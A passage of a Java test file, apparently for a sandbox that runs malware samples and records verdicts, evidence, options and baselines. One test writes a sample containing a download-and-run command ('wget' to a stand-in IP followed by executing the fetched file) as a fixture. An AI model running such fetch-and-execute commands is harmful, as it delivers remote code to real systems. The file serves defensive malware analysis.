package org.malassay.experiment;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.entry;
import static org.assertj.core.groups.Tuple.tuple;
import static org.junit.platform.engine.discovery.DiscoverySelectors.selectUniqueId;

import java.io.BufferedReader;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.function.UnaryOperator;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicNode;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.platform.testkit.engine.Events;
import org.malassay.behavior.Event;
import org.malassay.behavior.EventLog;
import org.malassay.behavior.Facet;
import org.malassay.behavior.FacetState;
import org.malassay.behavior.Origin;
import org.malassay.behavior.Recording;
import org.malassay.behavior.ServiceAsked;
import org.malassay.behavior.UnsupportedCall;
import org.malassay.environment.Evidence;
import org.malassay.environment.Piece;
import org.malassay.label.Label;
import org.malassay.options.Option;
import org.malassay.options.OptionException;
import org.malassay.options.Options;
import org.malassay.options.Values;
import org.malassay.report.Report;
import org.malassay.report.Runs;
import org.malassay.run.Availability;
import org.malassay.run.Result;
import org.malassay.run.RunDirectory;
import org.malassay.run.RunHeader;
import org.malassay.run.Service;
import org.malassay.run.Session;
import org.malassay.sample.LoginSession;
import org.malassay.verdict.Cause;
import org.malassay.verdict.Verdict;
import org.malassay.verdict.Verdict.Outcome;

class ExperimentTest extends ExperimentFixture {
  private Result only(UnaryOperator<Experiment> settings) throws IOException {
    run(settings);
    List<Result> results = new ArrayList<>();
    RunDirectory.open(folder.resolve("runs/latest")).forEachResult(results::add);
    assertThat(results).hasSize(1);
    return results.get(0);
  }

  @Test
  void argumentsOfTheCommandLineReachEverySample() throws IOException {
    sample("told", "tells it's");
    assertThat(
            only(it ->
                    it.option(RunOptions.SAMPLE, "told")
                        .option(RunOptions.SAMPLE_ARGUMENTS, "\"it's\""))
                .exitCode())
        .hasValue(0);
    assertThat(only(it -> it.option(RunOptions.SAMPLE, "told")).exitCode()).hasValue(1);
  }

  @Test
  void whatTheEnvironmentRefusedIsInTheRow() throws IOException {
    sample("forks", "forks");
    Result result = only(it -> it.option(RunOptions.SAMPLE, "forks"));
    assertThat(result.unsupportedCalls()).hasToString("[fork:ENOSYS:2]");
    assertThat(result.verdict().cause()).hasToString("Optional[needs a process: fork]");
  }

  @Test
  void whatAnEnvironmentNotesOfASampleIsInTheRowAndChangesNoVerdict() throws IOException {
    sample("remarked", "remarked words");
    Result result = only(it -> it.option(RunOptions.SAMPLE, "remarked"));
    assertThat(result.note()).isEqualTo("seen of it: words");
    assertThat(result.verdict()).isEqualTo(Verdict.notExecutable(Cause.of(Cause.Type.ABORT)));
  }

  /** What a guest tells and what this side asks: one log, whose facets the row tells of. */
  @Test
  void whatIsSeenOfASampleIsAmongItsEvidence() throws IOException {
    sample("forks", "forks");
    Result result = only(it -> it.option(RunOptions.SAMPLE, "forks"));

    List<Event> events = new ArrayList<>();
    EventLog.read(latest().path().resolve(result.evidence()).resolve(EventLog.FILE), events::add);

    assertThat(events)
        .filteredOn(UnsupportedCall.class::isInstance)
        .containsExactly(
            new UnsupportedCall(Duration.ZERO, Origin.LIBRARY_OS, "fork", "ENOSYS", 1),
            new UnsupportedCall(Duration.ofMillis(1), Origin.LIBRARY_OS, "fork", "ENOSYS", 1));
    assertThat(events)
        .filteredOn(ServiceAsked.class::isInstance)
        .hasSizeGreaterThanOrEqualTo(2)
        .first()
        .satisfies(before -> assertThat(before.at()).isNegative());
    Availability overTime = result.service().flatMap(Service::overTime).orElseThrow();
    assertThat(overTime.asked().get(0)).isEqualTo(1);
    assertThat(overTime.asked().stream().mapToInt(Integer::intValue).sum())
        .isEqualTo((int) events.stream().filter(ServiceAsked.class::isInstance).count());
    Recording recording = result.recording().orElseThrow();
    assertThat(recording.of(Facet.SERVICE)).isEqualTo(FacetState.OBSERVED);
    assertThat(recording.of(Facet.CALLS)).isEqualTo(FacetState.missing("fake does not tell them"));
  }

  @Test
  void everySampleIsATestThatPassesWhateverItsVerdict() throws IOException {
    Events events = run(experiment -> experiment);
    assertThat(failures(events)).isEmpty();
    assertThat(events.finished().stream().map(e -> e.getTestDescriptor().getDisplayName()))
        .filteredOn(name -> name.matches("[abcd]-.*"))
        .hasSize(4)
        .allMatch(name -> name.matches("\\S+ \\[[0-9a-f]{12}]"));
    assertThat(results())
        .extracting(Result::sample, result -> result.verdict().outcome())
        .containsExactlyInAnyOrder(
            tuple("a-exits", Outcome.EXECUTABLE),
            tuple("b-fails", Outcome.NOT_EXECUTABLE),
            tuple("c-crashes", Outcome.NOT_EXECUTABLE),
            tuple("d-runs", Outcome.EXECUTABLE));
    assertThat(fake.closed).hasValue(1);
    assertThat(fake.alive).hasValue(0);
  }

  @Test
  void whatASampleWroteIsKeptAsEvidence() throws IOException {
    run(experiment -> experiment);
    Result result = results().get(0);
    assertThat(latest().path().resolve(result.evidence()).resolve("stdout")).hasContent("hello");
  }

  @Test
  void theConsoleShowsOptionsFactsProgressAndTheClosingTable() {
    run(experiment -> experiment.option(RunOptions.TIME_LIMIT, "3s"));
    assertThat(console.toString(StandardCharsets.UTF_8))
        .contains("time.limit=3s", "fake.port=80", "image            sha256:1")
        .contains("corpus of 4 samples (4 files, 0 of them duplicates)")
        .containsPattern("\\[fake] 4/4 ")
        .containsPattern("fake +4 +2 +2 +0 +0")
        .contains("exit status 1, segmentation fault 1");
  }

  @Test
  void aWarningStandsInTheHeaderAndBelowTheClosingTable() {
    run(experiment -> experiment.warning("2 of 73 own samples could not be had: \u001b[31m"));
    assertThat(console.toString(StandardCharsets.UTF_8))
        .containsPattern(
            "(?s)warning: 2 of 73 own samples could not be had: \\\\x1b\\[31m\n.*4/4"
                + ".*mean threat.*warning: 2 of 73 own samples could not be had: ");
  }

  @Test
  void aToolThatFailsIsAnErrorOfThatSampleAndTheOthersGoOn() throws IOException {
    sample("e-lost", "engine gone");
    sample("f-defect", "breaks");
    Map<String, String> failures = failures(run(experiment -> experiment));
    assertThat(failures.values())
        .containsExactlyInAnyOrder(
            "e-lost in fake: INCONCLUSIVE: guest failed: the engine is gone",
            "f-defect in fake: INCONCLUSIVE: guest failed: environment fake"
                + " (org.malassay.experiment.FakeEnvironment): run threw"
                + " java.lang.IllegalStateException: a defect of the environment");
    assertThat(results()).hasSize(6);
    assertThat(results())
        .filteredOn(result -> result.verdict().outcome() == Outcome.INCONCLUSIVE)
        .hasSize(2)
        .allMatch(result -> result.threatScore().isEmpty());
  }

  @Test
  void whatAnEmulatorIsExpectedToRefuseIsNoError() throws IOException {
    sample("e-odd", "differs oddly");
    String said = "INCONCLUSIVE: the emulator refuses what Linux runs: oddly";
    String row = "%s,INCONCLUSIVE,the emulator refuses what Linux runs: %s\n";
    Path others =
        Files.writeString(
            folder.resolve("others.csv"),
            "sample,verdict,cause\n" + row.formatted("e-odd", "otherwise"));
    Path expected =
        Files.writeString(
            folder.resolve("expected.csv"),
            "sample,verdict,cause\n"
                + row.formatted("e-odd", "oddly")
                + row.formatted("a-exits", "oddly")); // which it does not, where it runs

    assertThat(failures(run(it -> it.expecting(others))).values())
        .containsExactly("e-odd in fake: " + said);
    assertThat(failures(run(it -> it.expecting(expected)))).isEmpty();
    assertThat(results()).filteredOn(Result::tolerated).extracting(Result::sample).hasSize(1);
  }

  @Test
  void aTextWithoutAnInterpreterIsRunWhenAShellIsToRunIt() throws IOException {
    Files.writeString(corpus.resolve("e-text"), "wget http://192.0.2.1/x; ./x\n");
    Result byKernel = only(it -> it.option(RunOptions.SAMPLE, "e-text"));
    assertThat(byKernel.verdict().cause()).hasToString("Optional[not an executable format: text]");
    Result byShell =
        only(
            it ->
                it.option(RunOptions.SAMPLE, "e-text")
                    .option(RunOptions.SCRIPTS_BY_SHELL, "shell"));
    assertThat(byShell.verdict().cause()).hasToString("Optional[exit status: 6]");
    assertThat(byShell.facts().fileType()).isEqualTo("text");
    assertThat(onlyFailure(run(it -> it.option(RunOptions.SCRIPTS_BY_SHELL, "ash"))))
        .contains("-Dscripts=ash", "neither kernel nor shell");
  }

  private Path evidence(Result result) throws IOException {
    return latest().evidence(result).folder();
  }

  @Test
  void whatWasSeenUntilTheToolFailedIsKeptWithWhereItFailed() throws IOException {
    sample("lost", "loses panic");
    Result lost = only(it -> it.option(RunOptions.SAMPLE, "lost"));

    assertThat(lost.verdict().cause())
        .hasToString("Optional[guest failed: the guest is lost with its console]");
    assertThat(evidence(lost).resolve("console.log")).hasContent("panic");
    assertThat(evidence(lost).resolve("stdout")).hasContent("so far");
    assertThat(evidence(lost).resolve("service.log")).as("collected all the same").exists();
    assertThat(evidence(lost).resolve("failure.txt"))
        .content()
        .startsWith(
            "org.malassay.environment.GuestException: the guest is lost\nwith its console\n")
        .contains("\tat org.malassay.experiment.FakeEnvironment");
  }

  @Test
  void whatTheSampleDidIsInTheRowWhenTheToolFailsAfterIt() throws IOException {
    sample("ended", "cannot be collected");
    Result ended = only(it -> it.option(RunOptions.SAMPLE, "ended"));

    assertThat(ended.verdict().outcome()).isEqualTo(Outcome.INCONCLUSIVE);
    assertThat(ended.exitCode()).hasValue(0);
    assertThat(ended.stdoutBytes()).isEqualTo(5);
    assertThat(evidence(ended).resolve("stdout")).hasContent("hello");
    assertThat(evidence(ended).resolve("failure.txt")).content().contains("its log is not there");
  }

  @Test
  void whatTookTheGuestDownIsOneBoundedLine() throws IOException {
    sample("panics", "panics");
    assertThat(only(it -> it.option(RunOptions.SAMPLE, "panics")).note())
        .startsWith("took the guest down: it panicked: xxx")
        .hasSizeLessThan(450);
  }

  /** Whether the tool fails in the guest, after it, or not at all. */
  @Test
  void theIndexNamesEveryPieceOfEvidenceAndNoOther() throws IOException {
    sample("e-loses", "loses everything");
    sample("f-kept", "cannot be collected");
    run(it -> it);
    for (Result result : results()) {
      Evidence evidence = latest().evidence(result);
      try (Stream<Path> files = Files.list(evidence.folder())) {
        assertThat(files.filter(file -> !file.equals(evidence.indexFile())))
            .as(result.sample())
            .extracting(file -> file.getFileName().toString())
            .containsExactlyInAnyOrderElementsOf(
                evidence.index().stream().map(Piece::name).toList());
      }
      assertThat(evidence.index())
          .extracting(Piece::name)
          .contains(
              EventLog.FILE,
              "stdout",
              result.sample().equals("f-kept") ? "failure.txt" : "service.log",
              result.sample().equals("e-loses") ? "console.log" : "stdout");
    }
  }

  @Test
  void theEvidenceOfASecondAttemptIsItsOwn() throws IOException {
    sample("lost", "loses panic");
    Result first = only(it -> it.option(RunOptions.SAMPLE, "lost"));
    Result second =
        only(it -> it.option(RunOptions.SAMPLE, "lost").option(RunOptions.RESUME, "latest"));

    assertThat(second.run()).isEqualTo(first.run());
    assertThat(second.evidence()).isEqualTo(first.evidence() + "-2");
    assertThat(evidence(first).resolve("stdout")).as("nothing is lost").exists();
    assertThat(evidence(second).resolve("stdout")).exists();
  }

  @Test
  void noMoreGuestsThanAllowedAreAliveAtOnce() throws IOException {
    for (int i = 0; i < 60; i++) {
      sample("more-" + i, "exit 0\n" + i);
    }
    run(experiment -> experiment.option(RunOptions.GUESTS, "3"));
    assertThat(fake.started).hasValue(64);
    assertThat(fake.mostAlive.get()).isBetween(1, 3);
    assertThat(fake.waiting).hasSize(64).contains(0).allMatch(waiting -> waiting < 64);
    assertThat(results()).hasSize(64);
  }

  @Test
  void aNumberOfGuestsIsChosenByTheEnvironment() {
    run(experiment -> experiment);
    assertThat(fake.mostAlive.get()).isBetween(1, 2);
  }

  @Test
  void anUnknownEnvironmentFailsAndNamesTheKnown() {
    assertThat(onlyFailure(run(experiment -> experiment.in("contaner"))))
        .isEqualTo("-Denv=contaner: there is no such environment; there is: fake");
  }

  @ParameterizedTest
  @CsvSource({
    "guests, 0, -Dguests=0: not a whole number",
    "time.limit, abc, -Dtime.limit=abc: not a duration",
    "memory, 0, -Dmemory=0: must be more than zero",
    "cpus, 0, -Dcpus=0: must be more than zero",
    "max.threat, high, -Dmax.threat=high: not a number",
    "labels, /nowhere, -Dlabels=/nowhere: there is no such folder",
    "threat.table, thesis, -Dthreat.table=thesis: neither a file nor a table",
    "resume, nope, -Dresume: there is no run nope in",
    "baseline, nope, -Dbaseline: there is no run nope in",
    "reports, html, '-Dreports=html: there is no such report; there is: '",
    "time.limt, 3s, -Dtime.limt: there is no such option; did you mean -Dtime.limit?",
    "max.thraet, 3, -Dmax.thraet: there is no such option; did you mean -Dmax.threat?",
    "fake.prot, 3, -Dfake.prot: there is no such option; did you mean -Dfake.port?",
    "fake.port, eighty, -Dfake.port=eighty: ",
    "out, /dev/null/runs, -Dout=/dev/null/runs cannot hold the run: ",
  })
  void anOptionThatIsWrongIsSaidBeforeAnythingIsOpenedOrLeftBehind(
      String name, String value, String message) {
    Option<String> option = Option.optional(name, "", "", text -> text);
    assertThat(onlyFailure(run(experiment -> experiment.option(option, value))))
        .startsWith(message)
        .doesNotContain("\n", "Exception");
    assertThat(fake.opened).hasValue(0);
    assertThat(folder.resolve("runs/latest")).doesNotExist();
  }

  @Test
  void aMistakeOfTheUsersIsNoMoreThanItsMessage() {
    Experiment wrong =
        experiment()
            .with(List.of(fake), List.of())
            .option(RunOptions.SAMPLES, "/nonexistent")
            .printingTo(new PrintStream(console));
    assertThatThrownBy(wrong::tests)
        .isInstanceOf(OptionException.class)
        .hasMessageStartingWith("-Dsamples=/nonexistent does not exist")
        .hasNoCause()
        .satisfies(e -> assertThat(e.getStackTrace()).isEmpty());
  }

  @Test
  void anEnvironmentThatCannotBeUsedFailsWithWhatMendsIt() {
    FakeEnvironment broken = new FakeEnvironment("fake", Map.of("missing", "engine"));
    Events events = execute(experiment().with(List.of(broken), List.of()));
    assertThat(onlyFailure(events)).isEqualTo("no engine here: run again with -Dsetup");
    assertThat(folder.resolve("runs/latest")).doesNotExist();
  }

  @Test
  void anEmptyCorpusFails() throws IOException {
    Path empty = Files.createDirectory(folder.resolve("empty"));
    assertThat(
            onlyFailure(run(experiment -> experiment.option(RunOptions.SAMPLES, empty.toString()))))
        .contains("-Dsamples", empty.toString());
  }

  @Test
  void aSampleThatIsNotThereFails() {
    assertThat(onlyFailure(run(experiment -> experiment.option(RunOptions.SAMPLE, "nothing"))))
        .contains("-Dsample=nothing", "a-exits");
  }

  @Test
  void oneSampleCanBeChosen() throws IOException {
    run(experiment -> experiment.option(RunOptions.SAMPLE, "b-*"));
    assertThat(results()).extracting(Result::sample).containsExactly("b-fails");
  }

  private void limited(String file, String session) throws IOException {
    sample("e-file", "limited " + file);
    Files.writeString(
        corpus.resolve("f.session"),
        "#!%s\nlimited %s\n".formatted(LoginSession.INTERPRETER, session));
  }

  private void assertTimeLimits(UnaryOperator<Experiment> settings) throws IOException {
    run(settings);
    assertThat(results())
        .filteredOn(result -> result.sample().matches("e-file|f.session"))
        .hasSize(2)
        .allSatisfy(result -> assertThat(result.verdict().outcome()).isEqualTo(Outcome.EXECUTABLE));
  }

  @Test
  void aLoginSessionHasMoreTimeAndLeavesFilesTheirs() throws IOException {
    limited("PT10S", "PT1M");
    assertTimeLimits(experiment -> experiment);
    assertThat(latest().header().last().options())
        .contains(entry("time.limit", "10s"), entry("time.limit.session", "60s"));
  }

  @Test
  void eachKindHasTheTimeLimitThatIsGivenForIt() throws IOException {
    limited("PT2M", "PT3S");
    assertTimeLimits(
        experiment ->
            experiment.option(RunOptions.TIME_LIMIT, "2m").option(RunOptions.SESSION_LIMIT, "3s"));
  }

  @Test
  void aRunIsNotContinuedWithAnotherTimeLimitOfSessions() throws IOException {
    limited("PT10S", "PT10S");
    assertTimeLimits(experiment -> experiment.option(RunOptions.SESSION_LIMIT, "10s"));
    assertThat(onlyFailure(run(experiment -> experiment.option(RunOptions.RESUME, ""))))
        .contains(
            "cannot be continued: option -Dtime.limit.session was 10s and is now 60s; use the same");
  }

  @Test
  void aBrokenExpectationFailsItsSampleOnly() throws IOException {
    Path expected =
        Files.writeString(
            folder.resolve("expected.csv"),
            "sample,environment,verdict,cause,why\n"
                + "a-exits,,NOT_EXECUTABLE,,\n"
                + "b-fails,,NOT_EXECUTABLE,exit status: 4,\n"
                + "c-crashes,fake,NOT_EXECUTABLE,segmentation fault,\n"
                + "c-crashes,,EXECUTABLE,,elsewhere\n"
                + "d-runs,other,NOT_EXECUTABLE,,\n");
    Events events = run(experiment -> experiment.expecting(expected));
    assertThat(failures(events).values())
        .containsExactly(
            "a-exits in fake: expected NOT_EXECUTABLE by expected.csv, but it is EXECUTABLE",
            "b-fails in fake: expected NOT_EXECUTABLE (exit status: 4) by expected.csv, but it is"
                + " NOT_EXECUTABLE (exit status: 3)");
    assertThat(results()).filteredOn(result -> !result.violations().isEmpty()).hasSize(2);
  }

  @Test
  void rowsOfOneSampleAndEnvironmentAreAlternatives() throws IOException {
    Path expected =
        Files.writeString(
            folder.resolve("expected.csv"),
            """
            sample,environment,verdict,cause
            a-exits,fake,NOT_EXECUTABLE,wrong architecture: aarch64
            a-exits,fake,EXECUTABLE,
            b-fails,fake,EXECUTABLE,
            b-fails,fake,NOT_EXECUTABLE,exit status: 4
            """);
    assertThat(failures(run(experiment -> experiment.expecting(expected))).values())
        .containsExactly(
            "b-fails in fake: expected EXECUTABLE or NOT_EXECUTABLE (exit status: 4) by"
                + " expected.csv, but it is NOT_EXECUTABLE (exit status: 3)");
  }

  @Test
  void theNearestRowCounts() throws IOException {
    Path expected =
        Files.writeString(
            folder.resolve("expected.csv"),
            """
            sample,environment,verdict
            a-exits,,NOT_EXECUTABLE
            a-exits,elsewhere,NOT_EXECUTABLE
            *,fake,EXECUTABLE
            b-fails,fake,NOT_EXECUTABLE
            *,,NOT_EXECUTABLE
            d-runs,elsewhere,NOT_EXECUTABLE
            """);
    assertThat(failures(run(experiment -> experiment.expecting(expected))).values())
        .singleElement()
        .asString()
        .startsWith("c-crashes in fake: expected EXECUTABLE by expected.csv");
  }

  @Test
  void anUnusableExpectationFileFails() throws IOException {
    Path noVerdict = Files.writeString(folder.resolve("e.csv"), "sample,cause\na,b\n");
    assertThat(onlyFailure(run(experiment -> experiment.expecting(noVerdict))))
        .contains("-Dexpect=", "it needs the columns verdict, and sample or sha256");
    Path typo = Files.writeString(folder.resolve("e.csv"), "sample,verdict\na,EXECUTIBLE\n");
    assertThat(onlyFailure(run(experiment -> experiment.expecting(typo))))
        .contains("row 1: no such verdict: EXECUTIBLE");
    assertThat(onlyFailure(run(experiment -> experiment.expecting(folder.resolve("absent")))))
        .contains("cannot be read: " + folder.resolve("absent") + " does not exist");
    Path nameless = Files.writeString(folder.resolve("e.csv"), "sample,,verdict\na,,EXECUTABLE\n");
    assertThat(onlyFailure(run(experiment -> experiment.expecting(nameless))))
        .contains("-Dexpect=", "cannot be read: A header name is missing");
    Path openQuote = Files.writeString(folder.resolve("e.csv"), "sample,verdict\n\"a,b\n");
    assertThat(onlyFailure(run(experiment -> experiment.expecting(openQuote))))
        .contains("-Dexpect=", "cannot be read: ")
        .doesNotContain("Exception");
    Path bytes = Files.write(folder.resolve("e.csv"), new byte[] {(byte) 0xff, (byte) 0xfe, 0});
    assertThat(onlyFailure(run(experiment -> experiment.expecting(bytes))))
        .endsWith("cannot be read: it is not text in UTF-8");
  }

  @Test
  void aSampleThatBecameExecutableSinceTheBaselineFails() throws IOException {
    run(experiment -> experiment);
    String baseline = latest().header().id();
    String journal = Files.readString(latest().path().resolve("journal.jsonl"));
    // as if an earlier version of the environment had held a-exits back
    Files.writeString(
        latest().path().resolve("journal.jsonl"),
        journal.replace(
            "{\"outcome\":\"EXECUTABLE\",\"cause\":null}",
            "{\"outcome\":\"NOT_EXECUTABLE\",\"cause\":{\"type\":\"ABORT\",\"detail\":\"\"}}"));
    Events events = run(experiment -> experiment.option(RunOptions.BASELINE, baseline));
    assertThat(failures(events).values())
        .hasSize(2)
        .allMatch(message -> message.endsWith(" in fake: became EXECUTABLE since run " + baseline));
  }

  /** A run is the latest one as soon as it has begun: the header tells which one was meant. */
  @Test
  void theLatestRunIsABaselineByItsIdAndComesToEachReport() throws IOException {
    run(experiment -> experiment);
    String before = latest().header().id();
    List<String> compared = new ArrayList<>();
    Report report =
        new Report() {
          @Override
          public String name() {
            return "baseline-told";
          }

          @Override
          public Path write(Runs runs, Options options) {
            runs.baseline().ifPresent(it -> compared.add(it.run().header().id()));
            return runs.run().path();
          }
        };

    assertThat(failures(run(it -> it.option(RunOptions.BASELINE, "true"), List.of(report))))
        .isEmpty();

    assertThat(compared).containsExactly(before);
    assertThat(latest().header().id()).isNotEqualTo(before);
    assertThat(latest().header().last().options()).containsEntry("baseline", before);
  }

  @Test
  void aRunIsNoBaselineOfItself() throws IOException {
    run(experiment -> experiment);
    String id = latest().header().id();
    assertThat(
            onlyFailure(
                run(
                    experiment ->
                        experiment
                            .option(RunOptions.RESUME, id)
                            .option(RunOptions.BASELINE, "latest"))))
        .isEqualTo(
            "-Dbaseline: run %s is the run itself; name an earlier run, by its id or its folder"
                .formatted(id));
  }

  @Test
  void aBaselineThatIsNotThereFails() {
    assertThat(onlyFailure(run(experiment -> experiment.option(RunOptions.BASELINE, "nope"))))
        .contains("there is no run nope in");
  }

  @Test
  void anExpectationThatConcernsNoSampleIsWarnedOf() throws IOException {
    Path elsewhere =
        Files.writeString(folder.resolve("expected.csv"), "sample,verdict\nother,EXECUTABLE\n");
    run(experiment -> experiment.expecting(elsewhere));
    assertThat(console.toString(StandardCharsets.UTF_8))
        .contains("warning: -Dexpect: expected.csv names none of the samples of this run");
    console.reset();
    String baseline = latest().header().id();
    try (Stream<Path> files = Files.list(corpus)) {
      for (Path file : files.toList()) {
        Files.writeString(file, Files.readString(file) + "# another build\n");
      }
    }
    Files.writeString(elsewhere, "sample,verdict\na-exits,EXECUTABLE\n");
    run(experiment -> experiment.expecting(elsewhere).option(RunOptions.BASELINE, baseline));
    assertThat(console.toString(StandardCharsets.UTF_8))
        .contains("warning: -Dbaseline: run " + baseline + " has none of the samples of this run")
        .doesNotContain("-Dexpect:");
  }

  @Test
  void aBaselineIsNamedByItsIdOrItsFolder() throws IOException {
    run(experiment -> experiment);
    Path elsewhere = folder.resolve("kept/baseline");
    Files.createDirectories(elsewhere);
    for (String file : List.of("run.json", "corpus.jsonl", "journal.jsonl")) {
      Files.copy(latest().path().resolve(file), elsewhere.resolve(file));
    }
    // As a user writes it, who may stand in another folder than the one in which tests run.
    String relative = Values.path(".").normalize().relativize(elsewhere).toString();
    for (String name : List.of(latest().header().id(), elsewhere.toString(), relative)) {
      assertThat(failures(run(experiment -> experiment.option(RunOptions.BASELINE, name))))
          .as(name)
          .isEmpty();
    }
    Files.delete(elsewhere.resolve("run.json"));
    assertThat(onlyFailure(run(experiment -> experiment.option(RunOptions.BASELINE, relative))))
        .startsWith("-Dbaseline: the run cannot be read: ")
        .endsWith("baseline: not the directory of a run: it has no run.json");
  }

  @Test
  void aBrokenCheckOfTheUsersIsABrokenExpectationInEveryReport() throws IOException {
    run(experiment -> experiment.checking(r -> ResultAssert.assertThat(r).isNotExecutable()));
    assertThat(results())
        .filteredOn(result -> !result.violations().isEmpty())
        .extracting(Result::sample)
        .containsExactlyInAnyOrder("a-exits", "d-runs");
  }

  @Test
  void anInconclusiveRowOfAResultsCsvExpectsNothing() throws IOException {
    Path earlier =
        Files.writeString(
            folder.resolve("results.csv"),
            "sample,verdict,cause\n"
                + "a-exits,INCONCLUSIVE,guest failed: x\n"
                + "b-fails,NOT_EXECUTABLE,\n");
    assertThat(failures(run(experiment -> experiment.expecting(earlier)))).isEmpty();
  }

  @Test
  void aLabelThatWasMissingIsLookedUpWhenTheRunIsContinued() throws IOException {
    run(experiment -> experiment);
    assertThat(results()).allMatch(r -> r.label().status() == Label.Status.MISSING);
    int before = fake.started.get();
    Path journal = latest().path().resolve("journal.jsonl");
    long lines = Files.readAllLines(journal).size();
    // as a kill leaves a row whose label was still being looked up
    Files.writeString(
        journal,
        Files.readString(journal).replaceAll("no source of labels[^\"]*", "not looked up yet"));

    run(experiment -> experiment.option(RunOptions.RESUME, "latest"));

    assertThat(fake.started).hasValue(before);
    assertThat(results())
        .hasSize(4)
        .allSatisfy(r -> assertThat(r.label().note()).contains("no source of labels"));
    assertThat(Files.readAllLines(journal)).as("each once more").hasSize((int) lines + 4);
  }

  private UnaryOperator<Experiment> labelled(String name, String... labels) throws Exception {
    Path reports = Files.createDirectories(folder.resolve("reports"));
    byte[] digest =
        MessageDigest.getInstance("SHA-256").digest(Files.readAllBytes(corpus.resolve(name)));
    String pairs =
        IntStream.range(0, labels.length)
            .mapToObj(i -> "[\"engine %d\", \"%s\"]".formatted(i, labels[i]))
            .collect(Collectors.joining(","));
    Files.writeString(
        reports.resolve("all.jsonl"),
        "{\"sha256\": \"%s\", \"av_labels\": [%s]}"
            .formatted(HexFormat.of().formatHex(digest), pairs));
    Option<String> folderOfReports = Option.optional("labels", "", "", text -> text);
    return experiment ->
        experiment
            .option(folderOfReports, reports.toString())
            .option(RunOptions.SAMPLE, name)
            .option(RunOptions.MAX_THREAT, "8.5");
  }

  @Test
  void aWeakLabelHasNoScoreForAnyGate() throws Exception {
    var labelled = labelled("a-exits", "Backdoor.A", "Backdoor.B");
    assertThat(onlyFailure(run(labelled)))
        .isEqualTo("a-exits in fake: threat score 9.0 is higher than -Dmax.threat=8.5");
    String scored = latest().header().id();

    var weak = labelled("a-exits", "Backdoor.A", "Linux.Other");
    assertThat(failures(run(it -> weak.apply(it).option(RunOptions.BASELINE, scored)))).isEmpty();
    assertThat(results())
        .singleElement()
        .satisfies(
            result -> {
              assertThat(result.label().status()).isEqualTo(Label.Status.WEAK);
              assertThat(result.threatScore()).isEmpty();
            });
    assertThat(console.toString(StandardCharsets.UTF_8)).contains("\nlabels: weak 1\n");
    String unscored = latest().header().id();

    var again = labelled("a-exits", "Backdoor.A", "Backdoor.B");
    assertThat(
            failures(
                run(
                    it ->
                        again
                            .apply(it)
                            .option(RunOptions.MAX_THREAT, "10")
                            .option(RunOptions.BASELINE, unscored))))
        .as("a score where there was none is no rise")
        .isEmpty();
  }

  @Test
  void ownChecksFailTheSample() {
    Events events =
        run(experiment -> experiment.checking(r -> ResultAssert.assertThat(r).isNotExecutable()));
    assertThat(failures(events).values())
        .containsExactly(
            "expected a-exits in fake to be NOT_EXECUTABLE, but it is EXECUTABLE",
            "expected d-runs in fake to be NOT_EXECUTABLE, but it is EXECUTABLE");
  }

  @Test
  void aSampleThatWasNotStartedLeftTheServiceIntact() throws IOException {
    Files.writeString(corpus.resolve("text"), "words");
    Events events =
        run(
            experiment ->
                experiment
                    .option(RunOptions.SAMPLE, "text")
                    .checking(
                        r -> ResultAssert.assertThat(r).isNotExecutable().leftServiceIntact()));
    assertThat(failures(events)).isEmpty();
    assertThat(fake.started).hasValue(0);
  }

  @Test
  void aKilledRunIsContinuedWithoutLosingOrDoublingARow() throws IOException {
    sample("e-lost", "engine gone");
    run(experiment -> experiment);
    RunDirectory killed = latest();
    Path journal = killed.path().resolve("journal.jsonl");
    List<String> lines = Files.readAllLines(journal);
    List<String> kept = lines.stream().filter(line -> !line.contains("c-crashes")).toList();
    // as SIGKILL leaves it: a row missing, the last one half written
    Files.writeString(journal, String.join("\n", kept) + "\n" + lines.get(0).substring(0, 100));
    int before = fake.started.get();

    sample("e-lost", "engine gone");
    run(experiment -> experiment.option(RunOptions.RESUME, "true"));

    assertThat(latest().path()).isEqualTo(killed.path());
    assertThat(fake.started.get() - before).as("the lost and the inconclusive one").isEqualTo(2);
    assertThat(results())
        .extracting(Result::sample)
        .containsExactlyInAnyOrder("a-exits", "b-fails", "c-crashes", "d-runs", "e-lost");
  }

  @Test
  void aContinuedRunSaysWithWhatEachOfItsRowsWasMade() throws IOException {
    run(it -> it.option(RunOptions.SAMPLE, "a-*"));
    FakeEnvironment other = new FakeEnvironment("other", Map.of("image", "sha256:9"));
    execute(
        experiment()
            .in("other")
            .option(RunOptions.SAMPLE, "b-*")
            .option(RunOptions.RESUME, "latest")
            .with(List.of(fake, other), List.of()));

    RunHeader header = latest().header();
    assertThat(results())
        .extracting(Result::environment, Result::sample)
        .containsExactlyInAnyOrder(tuple("fake", "a-exits"), tuple("other", "b-fails"));
    assertThat(results())
        .as("the session of each has the options and facts that it was made with")
        .allSatisfy(
            row -> {
              Session session = header.sessions().get(row.session() - 1);
              assertThat(session.environments()).containsOnlyKeys(row.environment());
              assertThat(session.options().get("sample")).startsWith(row.sample().substring(0, 1));
            });
    assertThat(header.environments()).containsOnlyKeys("fake", "other");
    assertThat(header.environments().get("fake")).containsEntry("image", "sha256:1");
    assertThat(header.environments().get("other")).containsEntry("image", "sha256:9");
    assertThat(header.sessions())
        .extracting(session -> session.options().get("sample"))
        .containsExactly("a-*", "b-*");
    assertThat(header.first().corpus().orElseThrow().files()).as("the whole of it").isEqualTo(4);
    assertThat(header.last().corpus()).isEqualTo(header.first().corpus());
    List<String> corpusOfRun = new ArrayList<>();
    latest().forEachCorpusEntry(entry -> corpusOfRun.add(entry.path()));
    assertThat(corpusOfRun).containsExactly("a-exits", "b-fails");
    assertThat(console.toString(StandardCharsets.UTF_8))
        .contains("continued: start 2 of a run of " + header.started())
        .doesNotContain("the corpus has changed");
  }

  @Test
  void aCorpusThatHasChangedSinceIsSaid() throws IOException {
    run(experiment -> experiment);
    sample("e-new", "exit 7");
    run(experiment -> experiment.option(RunOptions.RESUME, "latest"));
